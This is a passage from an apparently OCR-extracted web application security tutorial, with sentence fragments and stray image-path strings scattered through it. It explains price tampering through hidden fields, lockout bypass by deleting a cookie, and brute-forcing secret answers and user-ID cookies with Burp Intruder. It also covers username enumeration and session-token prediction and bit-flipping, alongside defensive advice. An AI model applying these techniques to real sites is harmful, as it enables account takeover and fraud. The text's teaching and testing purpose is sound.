break the application.

Submit the re-encoded value in the proxy interceptor, and submit the request.


After the request is submitted, the price has been manipulated. Scarily, the prices
are able to be changed client side instead of server side.

The above application disables the price via a form field, but submits it via a noneditable form field nonetheless. Asbizarre as this seems, it is being covered
because it has been seen before.

Notice in the source code, a disabled=true parameter being submitted in a hidden
form field.

We change this to enabled=true, and submit the


Application is defeated.

Do not use remember me cookies that wrap the
credentials inside of it. Produce the same amount of bits and identical error
messages when user enters the wrong password for a username, or enters a
username that does not exist. This will stop the attacker from being able toenumerate usernames to brute force at a later time. Do not use secret questions as
an account recovery mechanism that has predictable or low entropy answers. This
is easily dictionary attacked. In using account recovery options, do not reset the
password on the application directly upon a correct secret answer question. A more
in depth approach is too have a successful answer trigger an email to the users
email address. This generated URL should not be predictable, but instead
completely randomized. Further, it should have settime expiration as well. The
following attacks will look to attack bad authentication methods, all which have
been seen in actual practice.


Above, a normal account lockout mechanism, from too many incorrect logins is

The session id cookie will be deleted/changed, and the effect that has on the
application will be noted.

The user is no longer locked out, as lock out is based on a static cookie that
automatically be deleted in automated brute force attacks if needed.


Verification is shown that the login error has changed. It is now taking credentials
What about horrible forgot password mechanisms? Single step mechanisms that
send an email verification should always be used. How can an attacker abuse
secret answer resets to be answered without any type of lockout or uniquely
generated reset URL sent via email?

We want to intercept the request to set a payload to dictionary attack the secret
answer field.


Payload set correctly in Burp Intruder.

A very large file of colors is scraped from the internet to be used as our dictionary
for the automated attack.


Load the list into the payload options section of Burp Intruder.

Analyzing and ordering the different payload requests sent to the site reveal
something interesting. The length of the page returned by magenta differ than all
the wrong answer responses that have a length of 1049 bytes.

Successful reset.

The next attack willattempt to enumerate a real user name of a site, from a fake
one. Many applications load the same error page if you type in a username that
doesnt exist on a site, or type a username that does exist on the site, but use the
wrong password. Many times though, there are subtle differences in the source
code of the page loaded, between a rejected login from a wrong username versus a
correct username but wrong password. We can zero in on real users to attack if we
can get actual correct usernames.


The first shot shows a real user, the second shot shows a nonexistent user. The
loginpages look identical but let us take a closer look.

We send the two http responses to Burp Comparer. Strangely, there is a 1 byte
difference in length of the error page.


Looking deeper into Burp Comparer, it highlights the difference in words in the
source code between the two site response. Notice the only difference are the two
usernames, and subtle html following the last line.

We can also look at the difference in bytes in different areas of the response. This
application fails the username obscurity test.

Next, horrible authorization methods, where a remember me function is used to

remember users so they dont have reissue their passwords is used. These
functions should not be used but if they must be, a randomly generated function
should be used instead of anything discernable like a user id. This again, seems
utterley insane but has been seen done in applications.

Logging in as yourself and analyzing the http request is recommended.

A remember user by their user id is being used as seen by being part of the cookie
parameter. This is ripe for a brute force attack.

Above, the payload being highlighted is the user id parameter.


This payload will sequentially rip through all numbered values 1-100.

After the automated attack occurs, all error pages have a byte length of 1897. Itseems the 526 byte length responses are successful logins of user ids.


The applications authorization is deemed broken as proof by the above user account
being compromised.

Session Management
Session management is responsible for sorting, handling, and following the multiple
requests amongst multiple users to the web application. Even the most robust
authentication system is invalidated by vulnerabilities in the session management
implementation. In maintaining state across the stateless http protocol, unique
tokens are generated by the application and granted to users during the time they
log in to the time they log out or expire from the session. This isnt to say that
tokens are not transmitted to clients without logins though. It is very common, for
instance, in shopping applications, to issuea token to a user who hasnt actually
authenticated. In this example, it would be a token transmitted with each response
and request to and from the application, keeping track of the items added to the
shopping cart. The token is dominantly transmitted via the cookie header. This is
via the set-cookie header during the response, and the cookie header in the
request. Set-Cookie:ASP.NET_SessionId=mza2ji454s04cwbgwb2ttj55 is an
example of a cookie field in an http response that is transmitting a token to the
client. Using Burp Suite we will be looking to intercept these tokens, and use the
Burp Sequencer to generate other valid tokens. Two inherent issues with sessions,
that can be exploited with an intercepting proxy are as follows: session generation
and session handling. One should nevermake any assumptions that a web
application is only using one parameter or item to handle the session. The
application may not use an overt or entire string in a cookie field as a token. It may
be only a portion of it, and it may employ other parameters such as hidden form
fields to handle sessions. A useful tip is to use Burp Repeater, and slowly remove
parts of any items that look like they may be a part of the session. Consecutive
requests in repeater on a session dependent page will reveal what removed items

breaks the session and subsequently show what parameters are effectively the
token. This will help zero in on the next step of focusing on generating other
tokens to hijack accounts. It is important to note that session tokens are not always
used to manage a users state across the application. In stateless session
management, all the data needed to handle state is submitted via the client. This is
similar to the Viewstate. If this is the case, an attacker will likely see much
longer strings in the cookie or hidden form field. The data for state will most likely
be encrypted and/or signed, and requests to one page of the web app will be
denied. For the most part, this type of stateless management, has the servergenerates new parts of a token per every request, making it undesirable to try and
attack it. Combined with encryption, is is highly recommended that if this type of
state management is used, than move to code injection and broken access controls
to exploit. The tokens being analyzed here are session tokens with structure. They
may be generated in conjunction with username, date, etc, and then encoded into
base 64 or hex.

Predictable tokens are disastrous. The worst kind of predictable token

would be tokens that issued sequentially. It is trivial for an attacker to use Burp to
issue thousands of requests while simultaneously altering the digits in the token and
then referring to the http response code for successful logins. There are manytimes weak token generation when it is primarily based in concealing the sequence.
Weak obfuscation methods are easy to reverse engineer by looking closely at the
string and decoding parts of it, and then looking at patterns in the generated
tokens. Time dependency tokens that rely too much on this are not random enough
and can also be attacked by large automated token generation attacks. An example
of a bad token is one where the 1st part increased sequentially by one for every
token issued, and the second part is completely time based. When a user logs in, it
would show that the first part of the token increased by 2 instead of 1. The second
part would be trivial to automate because the attack would have the time part of
the token before the user, and the one directly after. Another common issue with
the mishandling of securing tokens comeswhen developers attempt to use weak
encryption modes. CBC and ECB encryption methods both leave cookie contents
able to be manipulated. The problem with ECB occurs because the same block of
encrypted content in a cookie always decrypts to the same block of plaintext. This
is an issue because an attacker would only need to swap around 8 bits in
appropriate places to see if they can manipulate the cookie. For example, if
userid= is one block of data, and the next block is 883;app=, an attacker could
switch the second block with perhaps the sixth block of data that decrypts to
1;time=. This would effectively switch the userid being logged into as userid 1.
Many applications have been found to not check all aspects of a cookie and this
attack has worked. CBC mode differs from the ECB cipher in the fact that the next
block of plaintext that gets decrypted, is XORed against the previous decrypted

plaintext. This causes an attacker who modifies the encrypted text to ineffectively
scramble the next block of data being decrypted. There is a caveat though. Many
applications still only validate the user id of the cookie. An attacker can automate
an attack, using the bit flipper method. This method creates many requests, but
effectively flips character to character in the string. Running the flipper attack long
enough can result in getting account hits with the right user id number.
The above is an example snippet of the bit flipper attack where the last request
actuallyproduces an effective account bypass. In the second to last attempt the
d is uid was flipped to produce an e which is not valid, but the final result is all
that matters.

Having secure generation methods for session tokens is

absolutely necessary, but all in vain if sessions are not handle correctly. If an
attacker is able to intercept a session and replay the captured token, he has no
need to even exploit generation weaknesses. It should be assumed that when
discussing session handling vulnerabilities, that the session token is being
transmitted via the cookie header. Issues in web apps with applying https across
the handling session are overwhelmingly common. Where cookies are transmitted
via http, it is assumed that they are vulnerable to interception. Many websites
employ https only on the login page and after. The issue occurs when they issue a
session cookie to a user before they even authenticate. Even worse, once the user
